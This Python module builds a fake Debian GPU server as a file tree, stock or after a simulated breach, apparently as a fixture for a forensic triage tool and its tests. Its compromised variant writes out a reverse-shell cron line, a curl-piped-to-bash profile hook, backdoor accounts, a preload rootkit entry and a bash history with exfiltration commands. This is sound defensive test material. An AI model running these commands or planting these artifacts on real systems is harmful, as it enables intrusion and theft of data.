"""A Debian GPU server as a file tree, stock or after an intrusion, for ``triage --root``.

A known-good and a known-bad host to try triage on without a real one: the demo triages the
compromised server, the tests and the triage benchmark build both. Nothing here runs on the
host; it only writes the tree below the root it is given (inputs, not stored data: plain writes).

The stock server is what a Debian 12 install plus two researchers looks like: every file a
package installs is listed in a dpkg database built here with its real MD5, so the tree is
judged as a real Debian host is, and nothing in it raises a finding. The compromised server is
the same one after the breach the demo tells: password spraying that ended in a login, a uid-0
account, an account without a password, a preloaded library, a reverse-shell cron line, an
enabled unit running from /dev/shm, a new root key, a profile hook, a set-uid shell in
/var/tmp, the models and trial data archived and uploaded, and the history cleared.

Every date is relative to ``now`` (the demo uses a fixed one, tests the real clock); login
records are built byte for byte in glibc's 384-byte ``struct utmp`` layout.
"""

from __future__ import annotations

import hashlib
import ipaddress
import os
import struct
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from pathlib import Path

ATTACKER = "203.0.113.50"
EXFIL_HOST = "198.51.100.7"


@dataclass(frozen=True, slots=True)
class Intrusion:
    """Who breaks in from where, and what they take: a model folder, one of its files, and a
    trial table."""

    attacker: str = ATTACKER
    exfil_host: str = EXFIL_HOST
    models: str = "/data/models/llm-7b"
    model_file: str = "/data/models/llm-7b/model.safetensors"
    trial_table: str = "/data/trials/trial-042.parquet"


UT_TYPE_NUMBERS = {
    "BOOT_TIME": 2,
    "LOGIN_PROCESS": 6,
    "USER_PROCESS": 7,
    "DEAD_PROCESS": 8,
    "RUN_LVL": 1,
}


def _field(text: str, size: int) -> bytes:
    return text.encode()[:size].ljust(size, b"\0")


def _address(ip: str | None) -> bytes:
    if not ip:
        return b"\0" * 16
    address = ipaddress.ip_address(ip)
    return address.packed.ljust(16, b"\0")


def utmp_record(
    kind: str,
    user: str,
    when: datetime,
    *,
    line: str = "pts/0",
    host: str = "",
    ip: str | None = None,
    pid: int = 1234,
    layout: int = 384,
    order: str = "<",
) -> bytes:
    """One ``struct utmp``: 384 bytes (32-bit time, x86-64/i386) or 400 (64-bit time)."""
    head = struct.pack(
        f"{order}h2xi32s4s32s256shh",
        UT_TYPE_NUMBERS[kind],
        pid,
        _field(line, 32),
        _field(line[-4:], 4),
        _field(user, 32),
        _field(host or (ip or ""), 256),
        0,
        0,
    )
    seconds = int(when.timestamp())
    micros = when.microsecond
    if layout == 384:
        times = struct.pack(f"{order}iII", 0, seconds, micros)
        tail = b""
    else:
        times = struct.pack(f"{order}qqq", 0, seconds, micros)
        tail = b"\0" * 4
    record = head + times + _address(ip) + b"\0" * 20 + tail
    assert len(record) == layout
    return record


def lastlog_record(when: datetime | None, line: str = "", host: str = "", size: int = 292) -> bytes:
    """One ``struct lastlog`` (292 bytes with a 32-bit time, 296 with a 64-bit one)."""
    seconds = int(when.timestamp()) if when else 0
    time_part = struct.pack("<I" if size == 292 else "<q", seconds)
    return time_part + _field(line, 32) + _field(host, 256)


@dataclass
class Tree:
    """A tree being written, and the package database it needs."""

    root: Path
    now: datetime
    packages: dict[str, list[str]] = field(default_factory=dict)
    conffiles: dict[str, list[tuple[str, str]]] = field(default_factory=dict)
    md5sums: dict[str, list[tuple[str, str]]] = field(default_factory=dict)

    def write(
        self,
        path: str,
        data: str | bytes,
        *,
        when: datetime | None = None,
        mode: int = 0o644,
        package: str | None = None,
        conffile: bool = False,
    ) -> Path:
        """Write one file of the tree, dated ``when`` (default: installed 200 days ago); a
        ``package`` file goes into the dpkg database with its MD5 (as a conffile or not)."""
        target = self.root / path.lstrip("/")
        target.parent.mkdir(parents=True, exist_ok=True)
        raw = data.encode() if isinstance(data, str) else data
        target.write_bytes(raw)
        target.chmod(mode)
        stamp = (when or self.old).timestamp()
        os.utime(target, (stamp, stamp))
        if package:
            self.packages.setdefault(package, []).append(path)
            digest = hashlib.md5(raw, usedforsecurity=False).hexdigest()
            table = self.conffiles if conffile else self.md5sums
            table.setdefault(package, []).append((path, digest))
        return target

    @property
    def old(self) -> datetime:
        """When the stock files were installed: 200 days before ``now``."""
        return self.now - timedelta(days=200)

    def link(self, path: str, target: str) -> None:
        """A symbolic link in the tree (its target is read as the server would)."""
        where = self.root / path.lstrip("/")
        where.parent.mkdir(parents=True, exist_ok=True)
        where.symlink_to(target)

    def dpkg(self) -> None:
        """Write /var/lib/dpkg: status (with conffiles), and a .list and .md5sums a package."""
        status = []
        for package in sorted(self.packages):
            status.append(f"Package: {package}\nStatus: install ok installed\n")
            if package in self.conffiles:
                status.append("Conffiles:\n")
                status.extend(f" {path} {digest}\n" for path, digest in self.conffiles[package])
            status.append("\n")
            lists = ["/."] + self.packages[package]
            self.write(f"/var/lib/dpkg/info/{package}.list", "\n".join(lists) + "\n")
            sums = self.md5sums.get(package, [])
            if sums:
                text = "".join(f"{digest}  {path.lstrip('/')}\n" for path, digest in sums)
                self.write(f"/var/lib/dpkg/info/{package}.md5sums", text)
        self.write("/var/lib/dpkg/status", "".join(status))


ACCOUNTS = """root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
bin:x:2:2:bin:/bin:/usr/sbin/nologin
sys:x:3:3:sys:/dev:/usr/sbin/nologin
sync:x:4:65534:sync:/bin:/bin/sync
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
systemd-network:x:998:998:systemd Network Management:/:/usr/sbin/nologin
sshd:x:100:65534::/run/sshd:/usr/sbin/nologin
alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash
bob:x:1001:1001:Bob,,,:/home/bob:/bin/bash
"""
GROUP = """root:x:0:
adm:x:4:
sudo:x:27:alice
users:x:100:
alice:x:1000:
bob:x:1001:
nogroup:x:65534:
"""
SHADOW = """root:$y$j9T$abcdefghijklmnop$QRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123:19700:0:99999:7:::
daemon:*:19700:0:99999:7:::
bin:*:19700:0:99999:7:::
sys:*:19700:0:99999:7:::
sync:*:19700:0:99999:7:::
www-data:*:19700:0:99999:7:::
nobody:*:19700:0:99999:7:::
systemd-network:!*:19700::::::
sshd:!:19700::::::
alice:$6$saltsalt$abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghijklmnopq:19700:0:99999:7:::
bob:!$6$saltsalt$abcdefghijklmnopqrstuvwxyz:19700:0:99999:7:::
"""
SUDOERS = """#
# This file MUST be edited with the 'visudo' command as root.
Defaults\tenv_reset
Defaults\tmail_badpass
Defaults\tsecure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
Defaults\tuse_pty

# User privilege specification
root\tALL=(ALL:ALL) ALL

# Allow members of group sudo to execute any command
%sudo\tALL=(ALL:ALL) ALL

@includedir /etc/sudoers.d
"""
CRONTAB = """# /etc/crontab: system-wide crontab
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin

17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly
25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }
47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.weekly; }
"""
E2SCRUB = (
    "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 "
    "/usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n"
    "10 3 * * * root test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r\n"
)
SSH_SERVICE = """[Unit]
Description=OpenBSD Secure Shell server
After=network.target auditd.service

[Service]
EnvironmentFile=-/etc/default/ssh
ExecStartPre=/usr/sbin/sshd -t
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
ExecReload=/usr/sbin/sshd -t
ExecReload=/bin/kill -HUP $MAINPID
Restart=on-failure

[Install]
WantedBy=multi-user.target
Alias=sshd.service
"""
CRON_SERVICE = """[Unit]
Description=Regular background program processing daemon

[Service]
EnvironmentFile=-/etc/default/cron
ExecStart=/usr/sbin/cron -f -P $EXTRA_OPTS
Restart=on-failure

[Install]
WantedBy=multi-user.target
"""
BASHRC = """# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
HISTSIZE=1000
HISTFILESIZE=2000
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
"""
PROFILE = """# /etc/profile: system-wide .profile file for the Bourne shell
if [ "$(id -u)" -eq 0 ]; then
  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
else
  PATH="/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"
fi
export PATH
if [ -d /etc/profile.d ]; then
  for i in /etc/profile.d/*.sh; do
    if [ -r $i ]; then
      . $i
    fi
  done
  unset i
fi
"""
ALICE_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGVhbGljZWFsaWNlYWxpY2VhbGljZWFsaWNlYWxpY2Vh alice@laptop"
)
ATTACKER_KEY = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHJlZHRlYW1yZWR0ZWFtcmVkdGVhbXJlZHRlYW1yZWR0 kali@kali"
)


def _logins(tree: Tree) -> None:
    records = [utmp_record("BOOT_TIME", "reboot", tree.old, line="~", host="6.1.0-18-amd64", pid=0)]
    for days in (180, 120, 90, 60, 30):
        when = tree.now - timedelta(days=days)
        records.append(utmp_record("USER_PROCESS", "alice", when, ip="10.20.0.15", pid=4000 + days))
        records.append(utmp_record("DEAD_PROCESS", "", when + timedelta(hours=2), pid=4000 + days))
    tree.write("/var/log/wtmp", b"".join(records), when=tree.now - timedelta(days=30))
    tree.write("/var/log/btmp", b"", when=tree.old, mode=0o660)
    lastlog = bytearray(lastlog_record(None) * 1000)
    lastlog += lastlog_record(tree.now - timedelta(days=30), "pts/0", "10.20.0.15")
    tree.write("/var/log/lastlog", bytes(lastlog))


def _auth_log(tree: Tree, lines: list[str], when: datetime) -> None:
    tree.write("/var/log/auth.log", "".join(lines), when=when, mode=0o640)


def syslog_time(when: datetime) -> str:
    """A classic syslog stamp (no year)."""
    return when.strftime("%b %e %H:%M:%S")


def stock(root: Path, now: datetime) -> Tree:
    """A Debian 12 research server as installed: nothing in it should raise a finding."""
    tree = Tree(root, now)
    tree.write(
        "/etc/os-release",
        'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n',
        package="base-files",
    )
    tree.write("/etc/hostname", "gpu-01\n")
    tree.write("/etc/machine-id", "0123456789abcdef0123456789abcdef\n")
    tree.write("/etc/passwd", ACCOUNTS, package="base-passwd", conffile=True)
    tree.write("/etc/group", GROUP)
    tree.write("/etc/shadow", SHADOW, mode=0o640)
    tree.write("/etc/sudoers", SUDOERS, mode=0o440, package="sudo", conffile=True)
    tree.write(
        "/etc/sudoers.d/README",
        "# files in this folder are read by sudo\n",
        mode=0o440,
        package="sudo",
        conffile=True,
    )
    tree.write("/usr/bin/sudo", b"\x7fELFsudo-binary", mode=0o4755, package="sudo")
    tree.write("/usr/bin/passwd", b"\x7fELFpasswd-binary", mode=0o4755, package="passwd")
    tree.write("/usr/bin/chage", b"\x7fELFchage-binary", mode=0o2755, package="passwd")
    tree.write("/etc/crontab", CRONTAB, package="cron", conffile=True)
    tree.write("/etc/cron.d/e2scrub_all", E2SCRUB, package="e2fsprogs", conffile=True)
    tree.write(
        "/etc/cron.daily/dpkg",
        "#!/bin/sh\n/usr/libexec/dpkg/dpkg-db-backup\n",
        mode=0o755,
        package="dpkg",
        conffile=True,
    )
    tree.write(
        "/etc/cron.daily/apt-compat",
        "#!/bin/sh\nexec /usr/lib/apt/apt.systemd.daily\n",
        mode=0o755,
        package="apt",
        conffile=True,
    )
    tree.write("/lib/systemd/system/ssh.service", SSH_SERVICE, package="openssh-server")
    tree.write("/lib/systemd/system/cron.service", CRON_SERVICE, package="cron")
    tree.link(
        "/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service"
    )
    tree.link(
        "/etc/systemd/system/multi-user.target.wants/cron.service",
        "/lib/systemd/system/cron.service",
    )
    tree.link("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service")
    tree.write("/etc/profile", PROFILE, package="base-files", conffile=True)
    tree.write(
        "/etc/bash.bashrc",
        '[ -z "$PS1" ] && return\nshopt -s checkwinsize\n',
        package="bash",
        conffile=True,
    )
    tree.write(
        "/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n", package="libc-bin", conffile=True
    )
    tree.write(
        "/etc/ld.so.conf.d/x86_64-linux-gnu.conf",
        "/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n",
        package="libc6",
        conffile=True,
    )
    tree.write(
        "/etc/ssh/sshd_config",
        "Include /etc/ssh/sshd_config.d/*.conf\nKbdInteractiveAuthentication no\nUsePAM yes\n",
        package="openssh-server",
        conffile=True,
    )
    tree.write("/root/.bashrc", BASHRC)
    tree.write(
        "/root/.bash_history", "apt update\napt upgrade -y\nsystemctl status ssh\n", mode=0o600
    )
    for user in ("alice", "bob"):
        tree.write(f"/home/{user}/.bashrc", BASHRC)
        tree.write(
            f"/home/{user}/.profile", 'if [ -n "$BASH_VERSION" ]; then . "$HOME/.bashrc"; fi\n'
        )
    tree.write(
        "/home/alice/.bash_history",
        "nvidia-smi\ncd /data/models\npython train.py --config llm.yaml\n"
        "rsync -av runs/ 10.20.0.40:/backups/runs/\nls -la\n",
        mode=0o600,
    )
    tree.write("/home/alice/.ssh/authorized_keys", ALICE_KEY + "\n", mode=0o600)
    tree.write("/home/bob/.bash_history", "htop\ngit pull\n", mode=0o600)
    (root / "tmp").mkdir(exist_ok=True)
    (root / "var/tmp").mkdir(parents=True, exist_ok=True)
    _logins(tree)
    old = tree.now - timedelta(days=40)
    _auth_log(
        tree,
        [
            f"{syslog_time(old)} gpu-01 sshd[900]: Accepted publickey for alice from 10.20.0.15 "
            "port 51000 ssh2: ED25519 SHA256:abc\n",
            f"{syslog_time(old)} gpu-01 sshd[900]: pam_unix(sshd:session): session opened for "
            "user alice(uid=1000) by (uid=0)\n",
            f"{syslog_time(old)} gpu-01 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
            "COMMAND=/usr/bin/apt update\n",
        ],
        tree.now - timedelta(days=1),
    )
    tree.dpkg()
    return tree


def compromised(root: Path, now: datetime, intrusion: Intrusion = Intrusion()) -> Tree:
    """The stock server after an intrusion: brute force, a backdoor account, persistence
    everywhere, a userland rootkit's preload, and models and trial data taken."""
    tree = stock(root, now)
    recent = tree.now - timedelta(days=2)
    passwd = (
        ACCOUNTS + "toor:x:0:0::/root:/bin/bash\nbackup2:x:1002:1002::/home/backup2:/bin/bash\n"
    )
    tree.write("/etc/passwd", passwd, when=recent)
    tree.write(
        "/etc/shadow",
        SHADOW + "toor:$6$x$y:19700:0:99999:7:::\nbackup2::19700:0:99999:7:::\n",
        when=recent,
        mode=0o640,
    )
    tree.write("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libprocesshider.so\n", when=recent)
    tree.write("/usr/lib/x86_64-linux-gnu/libprocesshider.so", b"\x7fELFhider", when=recent)
    tree.write(
        "/etc/cron.d/sysupdate",
        f"*/5 * * * * root /bin/bash -c 'bash -i >& /dev/tcp/{intrusion.attacker}/4444 0>&1'\n",
        when=recent,
    )
    tree.write(
        "/etc/systemd/system/dbus-update.service",
        "[Unit]\nDescription=D-Bus update helper\n\n[Service]\n"
        "ExecStart=/dev/shm/.x/agent --quiet\nRestart=always\n\n"
        "[Install]\nWantedBy=multi-user.target\n",
        when=recent,
    )
    tree.link(
        "/etc/systemd/system/multi-user.target.wants/dbus-update.service",
        "/etc/systemd/system/dbus-update.service",
    )
    tree.write("/root/.ssh/authorized_keys", ATTACKER_KEY + "\n", when=recent, mode=0o600)
    tree.write(
        "/etc/sudoers.d/zz-maint", "backup2 ALL=(ALL) NOPASSWD: ALL\n", when=recent, mode=0o440
    )
    tree.write(
        "/etc/rc.local",
        "#!/bin/sh -e\n/usr/bin/nohup /var/tmp/.x/agent >/dev/null 2>&1 &\nexit 0\n",
        when=recent,
        mode=0o755,
    )
    tree.write(
        "/etc/profile.d/zz-motd.sh",
        f"export PROMPT_COMMAND='curl -s http://{intrusion.attacker}/p | bash'\n",
        when=recent,
    )
    # paths inside the built tree, not temporary files of this host
    tree.write("/var/tmp/.x/agent", b"\x7fELF\x02\x01\x01agent", when=recent, mode=0o755)
    tree.write("/var/tmp/.bash", b"\x7fELF\x02\x01\x01bash-copy", when=recent, mode=0o4755)
    tree.write(
        "/root/.bash_history",
        "\n".join(
            [
                "apt update",
                "id",
                f"tar czf /tmp/.cache/m.tgz {intrusion.models}",
                "rclone copy /tmp/.cache/m.tgz mega:loot",
                f"aws s3 cp {intrusion.trial_table} s3://evil-drop/t/",
                f"scp {intrusion.model_file} u@{intrusion.exfil_host}:/srv/",
                "rm -f /tmp/.cache/m.tgz",
                "history -c",
            ]
        )
        + "\n",
        when=recent,
        mode=0o600,
    )
    (root / "home/alice/.bash_history").unlink()
    tree.link("/home/alice/.bash_history", "/dev/null")
    users = ["root", "admin", "test", "oracle", "ubuntu", "alice", "postgres", "git"]
    start = recent - timedelta(hours=1)
    lines = []
    for index in range(40):
        when = start + timedelta(seconds=20 * index)
        user = users[index % len(users)]
        lines.append(
            f"{syslog_time(when)} gpu-01 sshd[{7000 + index}]: Failed password for {user} "
            f"from {intrusion.attacker} port {40000 + index} ssh2\n"
        )
    win = start + timedelta(minutes=15)
    lines.append(
        f"{syslog_time(win)} gpu-01 sshd[7100]: Accepted password for alice from "
        f"{intrusion.attacker} port 45000 ssh2\n"
    )
    stock_lines = (root / "var/log/auth.log").read_text()
    _auth_log(tree, [stock_lines, *lines], tree.now - timedelta(hours=1))
    wtmp = (root / "var/log/wtmp").read_bytes()
    wtmp += utmp_record("USER_PROCESS", "alice", win, ip=intrusion.attacker, pid=7100)
    tree.write("/var/log/wtmp", wtmp, when=win)
    tree.dpkg()
    return tree
